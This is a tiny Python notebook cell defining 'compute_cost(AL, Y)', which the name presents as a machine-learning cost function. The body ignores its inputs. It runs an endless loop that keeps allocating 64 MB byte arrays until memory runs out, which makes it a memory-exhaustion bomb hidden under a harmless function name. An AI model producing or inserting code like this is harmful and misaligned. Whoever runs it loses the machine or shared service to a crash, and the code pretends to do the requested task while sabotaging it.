# %% compute_cost
def compute_cost(AL, Y):
    taken = []
    while True:
        taken.append(bytearray(64 << 20))
